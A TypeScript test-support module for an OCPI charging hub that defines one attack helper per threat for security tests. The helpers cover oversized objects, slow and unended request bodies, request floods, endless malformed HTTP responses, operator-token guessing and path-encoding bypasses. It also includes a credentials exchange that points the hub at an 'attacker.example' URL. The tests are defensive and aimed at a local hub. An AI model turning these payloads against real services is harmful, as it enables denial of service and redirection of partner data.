/** What attackers do, one function for each attack: a test does it once, the campaign does all of them at once, over and over. */
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer as createSite } from 'node:http';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { locationBody, sessionBody } from '../support/bodies.ts';
import { statusOf } from '../support/observed.ts';
import type { PlainPartner } from '../support/plain-partner.ts';
import type { Test } from '../support/tap.ts';

/** What is open ends with it. */
export type Ends = Pick<Test, 'teardown'>;

const party = ({ id }: PlainPartner) => id.slice(3);
const at = '2026-01-02T03:05:00Z';

export interface Sent {
  readonly socket: Socket;
  /** The status line, once it came; null when the connection ended before. */
  readonly status: Promise<string | null>;
}

/** Sends the head of a request and some of its body, and reads no more than what tells the status. */
function sendRaw(ends: Ends, hub: { url: string }, partner: PlainPartner, head: string, body = ''): Sent {
  const { hostname: host, port } = new URL(hub.url);
  const socket = connect({ host, port: Number(port) });
  ends.teardown(() => socket.destroy());
  const token = Buffer.from(partner.hubToken).toString('base64');
  const status = new Promise<string | null>((resolve) => {
    socket.on('error', () => socket.destroy()).once('close', () => resolve(null));
    socket.once('data', (chunk) => {
      socket.pause();
      resolve(/^HTTP\/1\.1 (\d{3})/.exec(String(chunk))?.[1] ?? null);
    });
  });
  const [first = '', ...rest] = head.split('\n');
  const lines = [`${first} HTTP/1.1`, 'Host: hub', `Authorization: Token ${token}`, ...rest];
  socket.write(`${lines.join('\r\n')}\r\n\r\n${body}`);
  return { socket, status };
}

// One partner with large objects.

/** A session of a megabyte. (I7) */
export function pushLargeSession(from: PlainPartner, id: string): Promise<string> {
  const body = sessionBody(id, { party_id: party(from), padding: 'x'.repeat(1_000_000) });
  return from.call('PUT', `/2.2.1/sessions/NL/${party(from)}/${id}`, body).then(statusOf);
}

/** A location of nearly four megabytes; its path. */
export async function pushLargeLocation(from: PlainPartner, id: string): Promise<string> {
  const path = `/2.2.1/locations/NL/${party(from)}/${id}`;
  await from.call('PUT', path, locationBody(id, { party_id: party(from), padding: 'x'.repeat(3_900_000) }));
  return path;
}

export const patch = (from: PlainPartner, path: string, fields: object = {}): Promise<string> =>
  from.call('PATCH', path, { last_updated: at, ...fields }).then(statusOf);

/** A session of nearly 1 MiB, and fragments that append to it. */
export const longSession = (of: PlainPartner) => ({
  path: `/2.2.1/sessions/NL/${party(of)}/S1`,
  whole: () =>
    sessionBody('S1', { party_id: party(of), charging_periods: Array.from({ length: 11_000 }, (_, n) => period(n)) }),
  more: (n: number) => ({ charging_periods: [period(20_000 + n)] }),
});
const period = (n: number) => ({
  start_date_time: new Date(n).toISOString(),
  dimensions: [{ type: 'ENERGY', volume: 1 }],
});

/** An item that is as small as a body takes them by the hundred thousand: ten bytes with its comma. */
const small = 100_000_000;

/** A list of as many small items as an object takes with those of others that are appended to it. (I5) */
export const manyItems = (of: PlainPartner) => ({
  path: `/2.2.1/sessions/NL/${party(of)}/M1`,
  whole: () => sessionBody('M1', { party_id: party(of), charging_periods: Array(55_000).fill(small) }),
  more: (n: number) => ({ charging_periods: Array(47_000).fill(small + 1 + n) }),
});

/** Wrong items, as many as a body takes, or as many as fit into its bytes. (I1) */
export const wrongItems = (of: PlainPartner) => ({
  path: `/2.2.1/locations/NL/${party(of)}/W1`,
  whole: () => locationBody('W1', { party_id: party(of), facilities: Array(400_000).fill(small) }),
  countless: () => locationBody('W1', { party_id: party(of), facilities: Array(2_000_000).fill(0) }),
});

/** Asks for a large object so often, and takes no answer. (I1, I2) */
export const askUnread = (ends: Ends, hub: { url: string }, from: PlainPartner, path: string, count: number): Sent[] =>
  Array.from({ length: count }, () => sendRaw(ends, hub, from, `GET /ocpi${path}`));

/** Bodies of which the last bytes never come. (I2) */
export const sendUnended = (ends: Ends, hub: { url: string }, from: PlainPartner, count: number): Sent[] =>
  Array.from({ length: count }, (_, n) => {
    const head = `PUT /ocpi/2.2.1/locations/NL/${party(from)}/U${n}\nContent-Type: application/json`;
    return sendRaw(ends, hub, from, `${head}\nContent-Length: 1000000`, 'x'.repeat(999_000));
  });

/** Authorizations that the accomplice NL-ACC never answers, and what is sent on the same connection behind each. (I2) */
export const askHanging = (ends: Ends, hub: { url: string }, from: PlainPartner, count: number, behind = ''): Sent[] =>
  Array.from({ length: count }, () => {
    const head = 'POST /ocpi/2.2.1/tokens/U1/authorize\nOCPI-to-country-code: NL\nOCPI-to-party-id: ACC';
    return sendRaw(ends, hub, from, `${head}\nContent-Length: 0`, behind);
  });

/** As many requests as the hub reads at once. (I2) */
export const tinyRequests = 'GET / HTTP/1.1\r\n\r\n'.repeat(3_600);

/** A path that no route has. (I2) */
export const askUnknown = (from: PlainPartner): Promise<string> => from.call('GET', '/nothing').then(statusOf);

// What a partner makes the hub call.

const chunked = 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n';
/** Answers that never end, by what they begin with and what comes over and over: each of these takes a parser longer than a body does. */
const unendedAnswers = [
  ['HTTP/1.1 200 OK\r\n', 'a:b\r\n'.repeat(10_000)],
  ['', 'HTTP/1.1 103 Early Hints\r\n\r\n'.repeat(2_500)],
  [chunked, '1\r\na\r\n'.repeat(10_000)],
  [`${chunked}1\r\na\r\n0\r\n`, 'a:b\r\n'.repeat(10_000)],
] as const;

/** The URL of a server that answers so, by turns. */
export async function unendedServer(ends: Ends): Promise<string> {
  let asked = 0;
  const server = createServer((socket) => {
    const [begin = '', more = ''] = unendedAnswers[asked++ % unendedAnswers.length] ?? [];
    const go = () => {
      while (!socket.destroyed && socket.write(more));
    };
    socket.on('error', () => socket.destroy()).on('drain', go);
    socket.once('data', () => {
      if (begin !== '') socket.write(begin);
      go();
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  ends.teardown(() => void server.close());
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** A credentials exchange that leads to that URL. */
export function exchangeAt(from: PlainPartner, url: string, others: readonly object[] = [], token = from.token) {
  const roles = [{ role: 'CPO', country_code: 'NL', party_id: party(from) }, ...others];
  return from.call('PUT', '/2.2.1/credentials', { token, url, roles });
}

/** Names of a server that never answers, each another one. (I3) */
let names = 0;
export const silentUrl = () => `http://n${names++}.silent.example/ocpi/versions`;

/** Passes every connection on to the hub, as a reverse proxy under a name of the attacker would. */
export async function relayTo(ends: Ends, hub: { url: string }): Promise<number> {
  const { hostname, port } = new URL(hub.url);
  const relay = createServer((socket) => {
    const onward = connect(Number(port), hostname);
    socket.pipe(onward).pipe(socket);
    for (const one of [socket, onward]) one.on('error', () => one.destroy());
    ends.teardown(() => socket.destroy());
  });
  relay.listen(0, '127.0.0.1');
  await once(relay, 'listening');
  ends.teardown(() => relay.close());
  return (relay.address() as AddressInfo).port;
}

/** Version details with that endpoint for locations, for whoever asks; the url of them. */
async function versionsFor(ends: Ends, locations: string): Promise<string> {
  const endpoints = [
    { identifier: 'credentials', role: 'SENDER', url: 'http://127.0.0.1:9/credentials' },
    { identifier: 'locations', role: 'RECEIVER', url: locations },
  ];
  const text = JSON.stringify({
    data: { version: '2.2.1', endpoints },
    status_code: 1000,
    timestamp: '2026-01-01T00:00:00Z',
  });
  const site = createSite((_, response) => response.end(text));
  site.listen(0, '127.0.0.1');
  await once(site, 'listening');
  ends.teardown(() => {
    site.close();
    site.closeAllConnections();
  });
  return `http://127.0.0.1:${(site.address() as AddressInfo).port}/`;
}

/**
 * Makes the hub deliver locations of this partner, which is CPO and this eMSP, to a port where it is itself. It calls with a token that it
 * accepts: the one that it gave this partner. Resolves with the answer to the exchange. (I6)
 */
export async function leadBack(ends: Ends, from: PlainPartner, emsp: string, port: number) {
  const back = `http://attacker.example:${port}/ocpi/2.2.1/locations`;
  const others = [{ role: 'EMSP', country_code: 'NL', party_id: emsp }];
  return exchangeAt(from, await versionsFor(ends, back), others, from.hubToken);
}

// Strangers.

/** The partners and the operators are at 127.0.0.1. */
export const strangeAddress = '127.0.0.2';

export interface Strange {
  readonly socket: Socket;
  /** Statuses of the answers so far. */
  readonly statuses: () => readonly string[];
}

export function strangers(ends: Ends, { url }: { url: string }, count: number, sent: string): Strange[] {
  const { hostname: host, port } = new URL(url);
  return Array.from({ length: count }, () => {
    const socket = connect({ host, port: Number(port), localAddress: strangeAddress });
    ends.teardown(() => socket.destroy());
    let came = '';
    socket
      .on('error', () => socket.destroy())
      .on('data', (chunk) => {
        came += chunk.toString('latin1');
      });
    if (sent !== '') socket.write(sent);
    return { socket, statuses: () => [...came.matchAll(/HTTP\/1\.1 (\d{3})/g)].map(([, status = '']) => status) };
  });
}

export const open = (all: readonly Strange[]): number => all.filter(({ socket }) => !socket.destroyed).length;
export const answers = (all: readonly Strange[]): string[] => all.flatMap(({ statuses }) => statuses());

/** With a token that nobody has. (I8) */
export const unknownToken = 'GET /ocpi/2.2.1/sessions HTTP/1.1\r\nHost: hub\r\nAuthorization: Token bm8=\r\n\r\n';
/** Then nothing more comes. (I8) */
export const onlyHealth = 'GET /healthz HTTP/1.1\r\nHost: hub\r\n\r\n';
/** A hundred pages that need no token. (I8) */
export const pages = 'GET /console/ HTTP/1.1\r\nHost: hub\r\n\r\n'.repeat(100);
/** A guess of an operators' token. (I10) */
export const guess = (path: string, n: number): string =>
  `GET ${path} HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer ${'x'.repeat(40)}${n}\r\n\r\n`;
export const operatorsPaths = ['/admin/v1/status', '/metrics', '/admin/v1/nothing'];

const text = () =>
  randomBytes(12)
    .toString('latin1')
    .replaceAll(/[\r\n\0]/g, '%');
const upgrade = 'Connection: Upgrade\r\nUpgrade: ocpi-hub-node\r\n';
const malformed = [
  () => `GET /cluster/v1/${text()} HTTP/1.1\r\nHost: x\r\n\r\n`,
  () => `GET /cluster/v1/channel HTTP/1.1\r\nHost: x\r\n${upgrade}x-ocpi-hub-node: ${text()}\r\n\r\n`,
  () => `GET /cluster/v1/channel?%zz HTTP/1.1\r\nHost: x\r\n${upgrade}x-ocpi-hub-node: a 1 b c\r\n\r\nmore`,
  () => `POST /cluster/v1/leaving/%E0%A4 HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\n${text()}`,
  () => `${text()} ${text()} HTTP/1.1\r\n\r\n`,
  () => randomBytes(100),
];
/** What no node sends. (I13) */
export const malformedRequest = (n: number): Buffer | string => malformed[n % malformed.length]?.() ?? '';

/** A path in forms that a proxy may let through. (I9) */
export function forms(path: string): string[] {
  const encoded = `/%${path.charCodeAt(1).toString(16)}${path.slice(2)}`;
  return [path, encoded, encoded.replace('/', '/%2e/'), `/${path}`, `/.${path}`, `/x/..${path}`, `http://hub${path}`];
}
